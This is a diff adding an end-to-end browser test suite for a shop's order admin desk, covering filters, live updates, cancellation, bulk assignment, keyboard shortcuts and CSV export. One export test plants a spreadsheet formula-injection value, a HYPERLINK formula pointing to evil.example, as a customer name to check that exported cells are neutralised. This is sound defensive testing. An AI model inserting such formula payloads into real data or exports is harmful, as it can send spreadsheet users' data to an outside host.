@@ -1,0 +1,279 @@
+import { randomUUID } from "node:crypto";
+import { readFileSync } from "node:fs";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { placeOrder, removeOrder } from "../../domain/orders/index.ts";
+import { shortId } from "../../domain/orders/model.ts";
+import { system } from "../../kernel/actor.ts";
+import { systemClock } from "../../kernel/clock.ts";
+import { connect } from "../../platform/database/connect.ts";
+import { ordersCtx } from "../orders/orders-rig.ts";
+import { launchBrowser, openPage, windows } from "../support/browser.ts";
+import type { TestDatabase } from "../support/database.ts";
+import { openDesk, tryPassword } from "../support/desk-acts.ts";
+import { expectToast, signIn, visit } from "../support/shop-acts.ts";
+import { type ShopServer, startShopServer } from "../support/shop-server.ts";
+
+let browser: Browser;
+let shop: ShopServer;
+let database: TestDatabase;
+
+beforeAll(async () => {
+  [browser, shop] = await Promise.all([launchBrowser(), startShopServer()]);
+  database = { ...connect(shop.databaseUrl, { max: 2, onError: () => {} }), url: shop.databaseUrl };
+});
+afterAll(async () => {
+  await browser?.close();
+  await database?.close();
+  await shop?.stop();
+});
+
+type Wish = { customerName?: string };
+
+/** Places a boost, which needs no stock, as a customer would, behind the desk's back. */
+async function placedOrder({ customerName = "Plain Customer" }: Wish = {}): Promise<string> {
+  const ctx = { ...ordersCtx(database).ctx, clock: systemClock };
+  const order = {
+    id: randomUUID(),
+    type: "infernal_boost",
+    customerId: null,
+    customerName,
+    customerEmail: "plain@customers.example",
+    rsn: "Plain Person",
+    quantity: 1,
+    amountCents: 3500,
+    rateMicroUsd: null,
+    rateVersion: null,
+    source: "web",
+    world: null,
+  } as const;
+  const result = await placeOrder(ctx, {
+    order,
+    once: { scope: "test", key: randomUUID(), content: {} },
+    guards: [],
+  });
+  if (!result.ok) throw new Error(result.error.text);
+  return order.id;
+}
+
+const rowOf = (page: Page, id: string) =>
+  page.locator("tbody tr").filter({ has: page.locator(`[data-order="${id}"]`) });
+
+const statusOf = async (id: string) =>
+  (await shop.query("select status from orders where id = $1", [id]))[0]?.status;
+
+test("filters stand in the address: a reload shows the same, and the form works without scripts", async () => {
+  const mine = `Seeker ${randomUUID().slice(0, 6)}`;
+  const id = await placedOrder({ customerName: mine });
+  await placedOrder({ customerName: "Somebody Else" });
+  const { page, context, expectQuiet } = await openPage(browser);
+  await openDesk(page, shop.origin, "staff@goldhall.test");
+  await page.getByRole("searchbox", { name: "Search orders" }).fill(mine);
+  await page.waitForURL(/q=Seeker/);
+  await page.getByRole("combobox", { name: "Type", exact: true }).selectOption({ label: "Infernal Boost" });
+  await page.waitForURL(/type=infernal_boost/);
+  const pending = page
+    .getByRole("navigation", { name: "Filter by status" })
+    .getByRole("link", { name: /Pending/ });
+  await pending.click();
+  await page.waitForURL(/status=pending/);
+  await expect.poll(() => page.locator("tbody tr").count()).toBe(1);
+  await page.reload();
+  await rowOf(page, id).waitFor();
+  expect(await page.locator("tbody tr").count()).toBe(1);
+  expect(await page.getByRole("searchbox").inputValue()).toBe(mine);
+  expect(await pending.getAttribute("aria-current")).toBe("true");
+
+  const bare = await browser.newContext({
+    ...windows.desktop,
+    javaScriptEnabled: false,
+    storageState: await context.storageState(),
+  });
+  const quiet = await bare.newPage();
+  await quiet.goto(`${shop.origin}/admin`);
+  await quiet.getByRole("searchbox", { name: "Search orders" }).fill(mine);
+  await quiet.keyboard.press("Enter");
+  await quiet.waitForURL(/q=Seeker/);
+  expect(await quiet.locator("tbody tr").count()).toBe(1);
+  await rowOf(quiet, id).getByRole("button", { name: /^Take/ }).click();
+  await rowOf(quiet, id).getByText("Teller Finch").waitFor();
+  await rowOf(quiet, id)
+    .getByRole("link", { name: /^Cancel/ })
+    .click();
+  await quiet.getByLabel("Reason").fill("Asked by mail");
+  await quiet.getByRole("button", { name: "Cancel this order" }).click();
+  await rowOf(quiet, id).getByText("Canceled").waitFor();
+  expectQuiet();
+  await Promise.all([bare.close(), context.close()]);
+});
+
+test("a new order appears by itself, and never moves the row that has the focus", async () => {
+  for (const window of [windows.desktop, windows.phone]) {
+    const { page, context, expectQuiet } = await openPage(browser, window);
+    await signIn(page, shop.origin, "staff@goldhall.test", "/support");
+    await visit(page, `${shop.origin}/admin?sort=created`);
+    await tryPassword(page);
+    await page.locator("tbody tr").first().waitFor();
+    await page.mouse.move(0, 0);
+    await page.getByText("Live", { exact: true }).waitFor();
+    const first = await placedOrder();
+    await rowOf(page, first).getByText("just in").waitFor();
+    await expect.poll(() => rowOf(page, first).getByText("just in").count(), { timeout: 8_000 }).toBe(0);
+
+    const link = rowOf(page, first).getByRole("link", { name: `#${shortId(first)}`, exact: true });
+    await link.focus();
+    const before = await rowOf(page, first).boundingBox();
+    const second = await placedOrder();
+    const show = page.getByRole("button", { name: "1 new order" });
+    await show.waitFor();
+    expect(await rowOf(page, first).boundingBox()).toEqual(before);
+    expect(await rowOf(page, second).count()).toBe(0);
+    await show.click();
+    await rowOf(page, second).waitFor();
+    expectQuiet();
+    await context.close();
+  }
+});
+
+test("an order is canceled with a reason that the customer can read; a stale version changes nothing", async () => {
+  const id = await placedOrder();
+  const { page, context, expectQuiet } = await openPage(browser);
+  await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
+  await rowOf(page, id)
+    .getByRole("link", { name: /^Cancel/ })
+    .click();
+  const dialog = page.getByRole("dialog");
+  expect(await dialog.getByLabel("Reason").inputValue()).toBe("Canceled by admin");
+  await dialog.getByLabel("Reason").fill("Sent twice");
+  await dialog.getByRole("button", { name: "Cancel this order" }).click();
+  await expectToast(page, "Order Canceled", "Order has been canceled successfully.");
+  expect(await statusOf(id)).toBe("canceled");
+  const [event] = await shop.query(
+    "select note, visibility from events where subject_id = $1 and type = 'order.status_changed'",
+    [id],
+  );
+  expect(event).toEqual({ note: "Sent twice", visibility: "public" });
+  await rowOf(page, id).getByText("Canceled").waitFor();
+  expect(
+    await rowOf(page, id)
+      .getByRole("link", { name: /^Cancel/ })
+      .count(),
+  ).toBe(0);
+
+  const raced = await placedOrder();
+  const answer = await page.request.post(`${shop.origin}/admin?index`, {
+    form: { form: "cancel", orderId: raced, version: "7", reason: "too late" },
+    headers: { Origin: shop.origin },
+  });
+  expect(answer.status()).toBe(409);
+  expect(await answer.text()).toContain("Your change was not saved.");
+  expect(await statusOf(raced)).toBe("pending");
+  expectQuiet();
+  await context.close();
+});
+
+test("ticked orders are assigned together, all or none", async () => {
+  const ids = [await placedOrder(), await placedOrder()];
+  const { page, context, expectQuiet } = await openPage(browser);
+  await openDesk(page, shop.origin, "manager@goldhall.test", "/admin?sort=created");
+  for (const id of ids)
+    await page.getByRole("checkbox", { name: `Tick #${shortId(id)}` }).check({ force: true });
+  await page.getByText("2 ticked").waitFor();
+  await page.getByLabel("Assign to").selectOption({ label: "Teller Finch" });
+  await page.getByRole("button", { name: "Assign", exact: true }).click();
+  await expectToast(page, "Assigned to Teller Finch", "2 orders changed hands.");
+  for (const id of ids) await rowOf(page, id).getByText("Teller Finch").waitFor();
+  const third = await placedOrder();
+  const staff = await shop.query("select id from user_profiles where display_name = 'Teller Finch'");
+  const staffId = String(staff[0]?.id);
+  const answer = await page.request.post(`${shop.origin}/admin?index`, {
+    form: { form: "assign", personId: staffId, [`order:${third}`]: "on", [`order:${randomUUID()}`]: "on" },
+    headers: { Origin: shop.origin },
+  });
+  expect(answer.status()).toBe(404);
+  const [row] = await shop.query("select assigned_to, version from orders where id = $1", [third]);
+  expect(row).toEqual({ assigned_to: null, version: 1 });
+  expectQuiet();
+  await context.close();
+});
+
+test("the export is what the filters show, with cells that no spreadsheet runs", async () => {
+  const name = `=HYPERLINK("http://evil.example?${randomUUID()}")`;
+  const id = await placedOrder({ customerName: name });
+  const { page, context, expectQuiet } = await openPage(browser);
+  await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?status=pending");
+  await rowOf(page, id).waitFor();
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("link", { name: "Export" }).click(),
+  ]);
+  await expectToast(page, "Export Complete", "Orders have been exported to CSV.");
+  const day = new Date().toISOString().slice(0, 10);
+  expect(download.suggestedFilename()).toBe(`orders-pending-${day}.csv`);
+  const lines = readFileSync(await download.path(), "utf8").split("\r\n");
+  expect(lines[0]).toBe('"Order ID","Type","Customer Name","Customer Email","Amount","Status","Created At"');
+  const line = lines.find((each) => each.includes(id));
+  expect(line).toContain(`"'${name.replaceAll('"', '""')}"`);
+  expect(lines.some((each) => each.includes('"Completed"'))).toBe(false);
+  const answer = await page.request.get(`${shop.origin}/admin/orders.csv?status=pending`);
+  expect(answer.headers()).toMatchObject({
+    "content-type": "text/csv; charset=utf-8",
+    "cache-control": "no-store",
+  });
+  const visitor = await fetch(`${shop.origin}/admin/orders.csv`, { redirect: "manual" });
+  expect(visitor.status).toBe(302);
+  expectQuiet();
+  await context.close();
+});
+
+test("the list is worked by single keys, and they rest while one types", async () => {
+  const ids = [await placedOrder(), await placedOrder()].reverse();
+  const [newest = "", older = ""] = ids;
+  const { page, context, expectQuiet } = await openPage(browser);
+  await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
+  await rowOf(page, newest).waitFor();
+  await page.keyboard.press("j");
+  await page.keyboard.press("j");
+  expect(await rowOf(page, older).getAttribute("aria-selected")).toBe("true");
+  await page.keyboard.press("k");
+  expect(await rowOf(page, newest).getAttribute("aria-selected")).toBe("true");
+  await page.keyboard.press("t");
+  await rowOf(page, newest).getByText("Teller Finch").waitFor();
+  await page.keyboard.press("s");
+  await page.getByRole("dialog", { name: `Status of #${shortId(newest)}` }).waitFor();
+  await page.getByRole("button", { name: /In Progress/ }).click();
+  await expectToast(page, "Status Updated");
+  expect(await statusOf(newest)).toBe("in_progress");
+  await page.keyboard.press("/");
+  await page.keyboard.type("jt?");
+  expect(await page.getByRole("searchbox").inputValue()).toBe("jt?");
+  await page.getByRole("searchbox").fill("");
+  await rowOf(page, newest).waitFor();
+  await page.locator("body").evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
+  await page.keyboard.press("?");
+  await page.getByRole("dialog", { name: "Keys" }).waitFor();
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("j");
+  await page.keyboard.press("Enter");
+  await page.waitForURL(/\/admin\/orders\//);
+  expectQuiet();
+  await context.close();
+});
+
+test("an order that is removed leaves open lists, and who had it selected is told", async () => {
+  const id = await placedOrder();
+  const { page, context } = await openPage(browser);
+  await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
+  await page.getByText("Live", { exact: true }).waitFor();
+  await rowOf(page, id)
+    .getByRole("link", { name: `#${shortId(id)}`, exact: true })
+    .focus();
+  const ctx = { ...ordersCtx(database).ctx, clock: systemClock, actor: system("test") };
+  const done = await removeOrder(ctx, { orderId: id, version: 1, reason: "spam" });
+  expect(done.ok).toBe(true);
+  await expectToast(page, "Order Removed", "This order is no longer available.");
+  await rowOf(page, id).waitFor({ state: "detached" });
+  await visit(page, `${shop.origin}/admin?q=${id}`);
+  await page.getByRole("heading", { name: "No order matches" }).waitFor();
+  await context.close();
+});
